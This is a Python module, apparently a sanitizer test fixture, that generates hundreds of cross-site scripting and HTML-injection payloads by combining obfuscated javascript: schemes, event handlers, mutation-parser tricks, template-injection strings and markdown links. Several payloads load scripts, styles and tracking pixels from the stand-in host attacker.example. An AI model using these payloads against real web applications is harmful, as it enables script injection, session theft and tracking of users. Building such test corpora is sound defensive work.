"""Markup and text that try to run a script or to ask another site for something, in as many ways as browsers know.

Each would set ``attacked`` on the window, or fetch from ATTACKER.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

ATTACKER = "http://attacker.example"
_RUN = "window.attacked=1"

_SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    " javascript:",
    "\tjavascript:",
    "java\tscript:",
    "java\nscript:",
    "java&#9;script:",
    "java&Tab;script&colon;",
    "&#106;avascript:",
    "&#x6a;avascript:",
    "&#0000106avascript:",
    "\x01javascript:",
    "javascript&#58;",
    "vbscript:",
    "data:text/html,<script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuYXR0YWNrZWQ9MTwvc2NyaXB0Pg==#",
    "data:image/svg+xml,<svg onload=",
    "view-source:javascript:",
    "feed:javascript:",
    "jar:javascript:",
    "//attacker.example/",
    "\\\\attacker.example/",
    "http:\\\\attacker.example/",
    "blob:javascript:",
    "filesystem:javascript:",
)
_LINKS = (
    '<a href="{0}">words</a>',
    "<a href='{0}'>words</a>",
    "<a href={0}>words</a>",
    '<a xlink:href="{0}">words</a>',
    '<area href="{0}">',
    '<form action="{0}"><button>words</button></form>',
    '<button formaction="{0}">words</button>',
    '<iframe src="{0}"></iframe>',
    '<embed src="{0}">',
    '<object data="{0}"></object>',
    '<base href="{0}">',
    '<meta http-equiv="refresh" content="0;url={0}">',
    '<link rel="stylesheet" href="{0}">',
    '<svg><a xlink:href="{0}"><text>words</text></a></svg>',
    '<svg><use href="{0}#x"/></svg>',
    '<svg><image href="{0}"/></svg>',
    '<math><maction actiontype="statusline" xlink:href="{0}">words</maction></math>',
    '<video poster="{0}"><source src="{0}"></video>',
    '<img src="{0}" srcset="{0} 1x" alt="two words">',
    '<blockquote cite="{0}">words</blockquote>',
)
_EVENTS = (
    "onerror",
    "onload",
    "onclick",
    "onfocus",
    "onmouseover",
    "ontoggle",
    "onbegin",
    "onanimationstart",
    "onpointerenter",
)
_BEARERS = (
    "<img src=x {0}={1}>",
    "<img src=x {0}='{1}'>",
    '<img/src="x"/{0}="{1}">',
    '<IMG SRC=x {0}\n=\n"{1}">',
    '<svg {0}="{1}">',
    '<svg/{0}="{1}"//',
    '<body {0}="{1}">',
    '<input autofocus {0}="{1}">',
    '<details open {0}="{1}">words</details>',
    '<video {0}="{1}"><source></video>',
    '<audio src=x {0}="{1}">',
    '<p style="animation:x" {0}="{1}">words</p>',
    '<a href="https://news.example/" {0}="{1}">words</a>',
    '<marquee {0}="{1}">words</marquee>',
    '<select autofocus {0}="{1}"></select>',
    "<custom-element {0}={1} tabindex=1>words</custom-element>",
    "<<img src=x {0}={1}>",
    '<img src=x {0}="{1}"',
    "<table background=x><td {0}={1}>words</td></table>",
    "<svg><animate {0}={1} attributeName=x dur=1s></svg>",
)
_SCRIPTS = (
    "<script>{0}</script>",
    "<SCRIPT>{0}</SCRIPT>",
    "<script >{0}</script >",
    "<script/x>{0}</script>",
    "<scr<script>ipt>{0}</scr</script>ipt>",
    "<script src={1}/x.js></script>",
    "<script src=//attacker.example/x.js></script>",
    "<script>{0}",
    "<!--><script>{0}</script>-->",
    "<!-- --!><script>{0}</script> -->",
    "<![CDATA[<script>{0}</script>]]>",
    "<?xml version='1.0'?><script>{0}</script>",
    "<svg><script>{0}</script></svg>",
    "<svg><script href='data:text/javascript,{0}'/></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={0}&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'></noscript>",
    "<textarea><img title='</textarea><img src=x onerror={0}>'></textarea>",
    "<title><img title='</title><img src=x onerror={0}>'></title>",
    "<style><img title='</style><img src=x onerror={0}>'></style>",
    "<xmp><img title='</xmp><img src=x onerror={0}>'></xmp>",
    "<template><script>{0}</script></template>",
    "<iframe srcdoc='&lt;script&gt;parent.attacked=1&lt;/script&gt;'></iframe>",
    "<style>@import '{1}/x.css';</style>",
    "<style>*{{background:url({1}/x.png)}}</style>",
    "<p style='background:url({1}/x.png)'>words</p>",
    "<p style='width:expression({0})'>words</p>",
    "&lt;script&gt;{0}&lt;/script&gt;",
    "&amp;lt;script&amp;gt;{0}&amp;lt;/script&amp;gt;",
    "%3Cscript%3E{0}%3C/script%3E",
    "\\u003cscript\\u003e{0}\\u003c/script\\u003e",
    "＜script＞{0}＜/script＞",
    "{{{{constructor.constructor('{0}')()}}}}",
    "${{{0}}}",
    "<%= {0} %>",
    "'-{0}-'",
    '";{0};//',
    "</script><script>{0}</script>",
    "</textarea><script>{0}</script>",
    "--><script>{0}</script>",
    "]]><script>{0}</script>",
    "<div data-hx-get='{1}/x' data-hx-trigger='load'>words</div>",
    "<div hx-get='{1}/x' hx-trigger='load'>words</div>",
    "<div data-hx-on:load='{0}' hx-on::load='{0}'>words</div>",
    "<link rel=prefetch href={1}/x>",
    "<link rel=dns-prefetch href={1}>",
    "<img src={1}/pixel.gif width=1 height=1 alt='two words'>",
    "<picture><source srcset='{1}/x.avif'><img alt='two words'></picture>",
    "<input type=image src={1}/x.png>",
    "<bgsound src={1}/x>",
    "<object type='text/x-scriptlet' data='{1}/x.html'></object>",
)


def attacks() -> Iterator[str]:
    """Yield every attack."""
    for scheme, link in product(_SCHEMES, _LINKS):
        yield link.format(f"{scheme}{_RUN}" if "attacker" not in scheme else scheme)
    for event, bearer in product(_EVENTS, _BEARERS):
        yield bearer.format(event, _RUN)
    for script in _SCRIPTS:
        yield script.format(_RUN, ATTACKER)
    for script in _SCRIPTS[:40]:
        yield f"[words]({script.format(_RUN, ATTACKER)}) ![words]({script.format(_RUN, ATTACKER)})"
    for scheme, link in product(_SCHEMES, ("[words]({0})", "![words]({0})", "<{0}>", '[words][1]\n\n[1]: {0} "title"')):
        yield link.format(f"{scheme}{_RUN}")
    for scheme in _SCHEMES:
        yield from (f"<p>A sentence with <{tag} href='{scheme}{_RUN}'>words</{tag}> in it.</p>" for tag in _NESTS)


_NESTS = ("a", "A", "cite", "q", "time", "svg:a", "b><a", "p><p><a", "span/a", "ins", "del")
